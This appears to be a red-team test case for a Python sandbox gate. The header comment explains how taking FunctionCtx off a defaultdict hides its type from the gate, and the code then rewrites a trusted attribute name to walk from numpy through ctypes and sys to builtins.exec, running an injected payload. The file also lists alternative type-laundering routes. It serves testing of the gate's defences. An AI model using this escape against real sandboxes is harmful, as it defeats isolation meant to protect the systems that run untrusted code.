# ruff: noqa: F821  (a part: the test puts the stub and `_FORGE = "..."` before it)
# rt11 (hostile, escape): FunctionCtx taken off a defaultdict. The gate refuses a listed class's method read
# from the class (`FunctionCtx.set_materialize_grads(obj, v)` runs torch's code with any object as self), but
# `collections.defaultdict(FunctionCtx).default_factory` is that class as a value the gate cannot type, on
# which `.set_materialize_grads` is a listed attribute. Called unbound on an own object it sets
# `materialize_grads`, an own attribute the gate trusts to hold only the literal the file binds it to
# ("real"), so `getattr(x, self.materialize_grads)` reads any attribute: numpy -> ctypes -> sys -> exec.
# Any route that hands the class on loses its type the same way: `[FunctionCtx][0]`, `{"k": FunctionCtx}.get("k")`,
# `(lambda c: c)(FunctionCtx)`, `next(iter([FunctionCtx]))`, `functools.reduce(...)`; torch.nn.Module likewise.
import collections

import numpy as np
from torch.autograd.function import FunctionCtx


class _Pick:
    def __init__(self):
        self.materialize_grads = "real"

    def of(self, x):
        return getattr(x, self.materialize_grads)


_setter = collections.defaultdict(FunctionCtx).default_factory  # hole
_pick = _Pick()


def _read(x, name):
    _setter.set_materialize_grads(_pick, name)
    return _pick.of(x)


_sys = _read(_read(np.zeros(1), "ctypes"), "_ctypes")
_sys = _read(_sys, "_sys")
_read(_read(_sys, "modules")["builtins"], "exec")(_FORGE, {"_frame": _read(_sys, "_getframe")()})
